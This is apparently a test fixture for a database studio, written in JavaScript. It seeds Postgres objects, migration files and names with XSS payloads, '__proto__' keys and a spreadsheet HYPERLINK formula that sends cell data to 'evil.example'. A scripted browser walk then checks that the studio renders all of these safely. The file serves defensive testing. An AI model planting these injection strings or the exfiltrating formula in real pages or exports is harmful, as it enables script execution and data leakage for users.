// A database and a project in which every name and every value tries to run a
// script, and a walk through all that the studio shows of them.

import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { skein } from "./studio.mjs";

/** Each calls hit() where it is taken for markup or for an address; identifiers have 63 bytes at most. */
export const vectors = {
  img: "<img src=x onerror=hit('img')>",
  svg: "'><svg onload=hit('svg')></svg>",
  close: "\"></title></script><script>hit('close')</script>",
  frame: "<iframe srcdoc='<script>parent.hit(\"frame\")</script>'>",
  link: "javascript:hit('link')",
};
const { img, svg, close, frame, link } = vectors;
export const formula = "=HYPERLINK(\"http://evil.example/\"&A1)";
const id = (s) => `"${s.replaceAll('"', '""')}"`;
const text = (s) => `'${s.replaceAll("'", "''")}'`;
const all = Object.values(vectors).join(" ");

export const schema = img;
export const table = svg;
const t = `${id(schema)}.${id(table)}`;

/** `__proto__` is among the names, since the page keeps columns and tables by name. */
export const setup = `
  CREATE SCHEMA ${id(schema)};
  CREATE TYPE ${id(schema)}.${id(close)} AS ENUM (${text(img)}, ${text(link)}, ${text(close)});
  CREATE TABLE ${id(schema)}.__proto__ (__proto__ int PRIMARY KEY, ${id(frame)} text);
  INSERT INTO ${id(schema)}.__proto__ VALUES (1, ${text(all)}), (2, ${text(formula)});
  CREATE TABLE ${t} (
    id int PRIMARY KEY, ${id(img)} text DEFAULT ${text(all)}, ${id(close)} ${id(schema)}.${id(close)}, ${id(link)} jsonb, ${id(frame)} text[], photo bytea,
    ${id(svg)} int REFERENCES ${id(schema)}.__proto__, constructor text, e text DEFAULT ${text(formula)},
    CONSTRAINT ${id(img)} CHECK (id < 100 OR ${text(all)} = ''));
  INSERT INTO ${t} SELECT g, ${text(all)}, ${text(close)}, jsonb_build_object(${text(img)}, ${text(close)}, '__proto__', jsonb_build_object('a', ${text(svg)})), ARRAY[${text(img)}, ${text(link)}],
    convert_to('<svg xmlns="http://www.w3.org/2000/svg" onload="hit(''svg'')"/>', 'UTF8'), 1, ${text(frame)} FROM generate_series(1, 3) g;
  COMMENT ON SCHEMA ${id(schema)} IS ${text(all)};
  COMMENT ON TABLE ${t} IS ${text(all)};
  COMMENT ON COLUMN ${t}.${id(img)} IS ${text(all)};
  CREATE INDEX ${id(close)} ON ${t} (${id(img)});
  CREATE FUNCTION ${id(schema)}.${id(img)}() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN
    RAISE EXCEPTION USING MESSAGE = ${text(all)}, DETAIL = ${text(close)}, HINT = ${text(img)}; END $f$;
  CREATE TRIGGER ${id(frame)} BEFORE UPDATE ON ${t} FOR EACH ROW EXECUTE FUNCTION ${id(schema)}.${id(img)}();
  CREATE POLICY ${id(svg)} ON ${t} USING (${text(img)} <> '');
  CREATE VIEW ${id(schema)}.${id(frame)} AS SELECT ${text(all)} AS ${id(close)};
  ANALYZE;`;

/** A project with hostile names of files, tags and all that they say; what is pending says it too, and fails. */
export function project() {
  const dir = mkdtempSync(join(tmpdir(), "skein-hostile-"));
  const file = `${img}.ts`;
  writeFileSync(join(dir, "drizzle.config.ts"), `export default ${JSON.stringify({ dialect: "postgresql", schema: `./${file}`, out: "./drizzle", schemaFilter: ["public", schema] })};`);
  writeFileSync(join(dir, file), `
    import { check, integer, pgEnum, pgTable, text } from "drizzle-orm/pg-core";
    import { sql } from "drizzle-orm";
    const mood = pgEnum(${JSON.stringify(img)}, ${JSON.stringify([close, link])});
    export const t = pgTable(${JSON.stringify(frame)}, { id: integer().primaryKey(), a: mood(${JSON.stringify(close)}), b: text(${JSON.stringify(link)}).default(${JSON.stringify(all)}) }, () => [check(${JSON.stringify(svg)}, sql\`true\`)]);
    export const p = pgTable("__proto__", { id: integer().primaryKey() });`);
  const run = (...args) => execFileSync(skein, args, { cwd: dir, stdio: "pipe" });
  run("generate", "--name", "first");
  run("generate", "--name", "second", "--custom");
  const tags = { "0000_first": `0000_${img}`, "0001_second": `0001_${svg.replace("/", " ")}` };
  const journal = join(dir, "drizzle/meta/_journal.json");
  for (const [was, is] of Object.entries(tags)) {
    renameSync(join(dir, `drizzle/${was}.sql`), join(dir, `drizzle/${is}.sql`));
    writeFileSync(journal, readFileSync(journal, "utf8").replace(JSON.stringify(was), JSON.stringify(is)));
  }
  const [first, second] = Object.values(tags).map((tag) => join(dir, `drizzle/${tag}.sql`));
  writeFileSync(first, `-- ${all}\nDO $$ BEGIN RAISE NOTICE USING MESSAGE = ${text(all)}, HINT = ${text(img)}; END $$;--> statement-breakpoint\n${readFileSync(first, "utf8")}`);
  writeFileSync(second, `DELETE FROM ${id(frame)}; -- ${close}\n--> statement-breakpoint\nDO $$ BEGIN RAISE EXCEPTION USING MESSAGE = ${text(all)}, DETAIL = ${text(close)}; END $$;`);
  return { dir, tags: Object.values(tags) };
}

const seg = encodeURIComponent;
const cell = (page, row, column) => page.locator(`[data-r="${row}"] [data-c="${column}"]`);

/** Goes through the rooms as a person does; `look` is called where there is something new to see. Gives the files that were saved. */
export async function walk(page, origin, tags, look) {
  const saved = [];
  const save = async (item) => {
    const download = page.waitForEvent("download");
    await page.getByRole("menuitem", { name: item, exact: true }).click();
    saved.push({ name: (await download).suggestedFilename(), text: readFileSync(await (await download).path(), "utf8") });
  };
  const at = (path) => page.goto(origin + path);

  // Data: rows, a peek along a key, a row's fields, each value whole, a filter, what cannot be written.
  await at(`/data/${seg(schema)}/${seg(table)}?row=${seg('["1"]')}`);
  await page.getByRole("link", { name: "Go there" }).waitFor();
  await look("rows");
  for (const column of [img, close, link, frame, "photo"]) {
    await page.getByRole("button", { name: `Open ${column} whole`, exact: true }).click();
    const dialog = page.getByRole("dialog", { name: column, exact: true });
    await dialog.getByText(/characters|items|\d B/).first().waitFor();
    await look(`the value of ${column}`);
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
  }
  await page.getByRole("button", { name: "Export" }).click();
  await save("CSV");
  await page.keyboard.press("f");
  await page.getByRole("combobox", { name: "Column" }).selectOption(close);
  await page.getByRole("checkbox", { name: link, exact: true }).check();
  await look("a filter");
  await page.keyboard.press("Escape");
  await cell(page, 0, 1).click();
  await page.keyboard.type(img);
  await page.keyboard.press("Enter");
  await page.keyboard.press("Control+s");
  await page.getByRole("button", { name: "Commit", exact: true }).click();
  await page.getByRole("dialog", { name: "Review changes" }).getByText("P0001").first().waitFor();
  await look("a refused change");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Discard" }).click();
  await at(`/data/${seg(schema)}/__proto__?row=${seg('["1"]')}`);
  await page.getByText("Pointed to by").waitFor();
  await look("rows of __proto__");
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox", { name: "Find a table or a command" }).fill("svg onload");
  await page.getByRole("listbox", { name: "Tables and commands" }).getByText(svg).first().waitFor();
  await look("the palette");

  // SQL: a result, a notice, an error, a plan, what was run.
  await at(`/sql?q=${seg(`SELECT * FROM ${t}`)}`);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByRole("columnheader", { name: img }).first().waitFor();
  await look("a result");
  await page.getByRole("button", { name: "Explain" }).click();
  await page.getByRole("list", { name: "Steps of the plan" }).waitFor();
  await look("a plan");
  await at(`/sql?q=${seg(`SELECT ${id(img)} FROM ${id(img + "!")}`)}`);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByRole("alert").filter({ hasText: "does not exist" }).first().waitFor();
  await page.getByRole("button", { name: "Queries that were run" }).click();
  await page.getByRole("option", { name: /SELECT/ }).first().waitFor();
  await look("an error, and what was run");

  // History: the timeline, a migration, the plan, applying with a notice and with a failure.
  await at(`/history/${seg(tags[0])}`);
  await page.getByRole("heading", { name: tags[0] }).waitFor();
  await look("a migration");
  await page.getByRole("tab", { name: /^Changes/ }).click();
  await page.getByRole("tabpanel", { name: "changes" }).getByRole("listitem").first().waitFor();
  await look("its changes");
  await at("/history?view=plan");
  await page.getByRole("heading", { name: /migrations? to apply/ }).waitFor();
  await look("the plan");
  await page.getByRole("button", { name: "Apply" }).first().click();
  await page.getByRole("button", { name: /^Apply 2 to / }).click();
  await page.getByRole("dialog").getByText(`${img} ${svg}`).first().waitFor();
  await look("a migration that failed");

  // Schema: the diagram, the list, a table, a difference, the file.
  await at(`/schema?at=${seg(tags[1])}`);
  await page.locator("[data-box]").first().waitFor();
  await look("the diagram");
  await page.getByRole("button", { name: "Export" }).click();
  await save("Save as SVG");
  await at("/schema?view=list");
  await page.getByRole("region", { name: table }).waitFor();
  await look("the list");
  await at(`/schema?from=${seg(tags[0])}&at=live&only=changed`);
  await page.getByRole("region", { name: "Changes" }).waitFor();
  await look("a difference");
  await at(`/schema/${seg(schema)}/${seg(table)}`);
  await page.getByRole("heading", { name: table, level: 1 }).waitFor();
  await look("a table");
  return saved;
}
